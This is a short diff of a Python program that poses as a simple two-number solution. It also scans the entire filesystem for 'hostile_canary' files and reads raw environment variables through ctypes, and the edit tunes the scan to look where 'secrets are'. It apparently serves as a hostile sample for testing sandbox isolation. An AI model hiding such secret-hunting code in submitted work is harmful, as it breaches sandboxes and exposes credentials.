@@ -6,7 +6,11 @@ import ctypes
 import os
 
 a, b = map(int, input().split())
-found = [path for path, folders, files in os.walk("/") for name in folders + files if name.startswith("hostile_canary")]
+found = []
+for path, folders, files in os.walk("/"):
+    found += [path for name in folders + files if name.startswith("hostile_canary")]
+    if path.count("/") >= 4:
+        folders.clear()  # a cold disk holds many library folders, and they are not where secrets are
 environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
 index = 0
 while environ[index]:
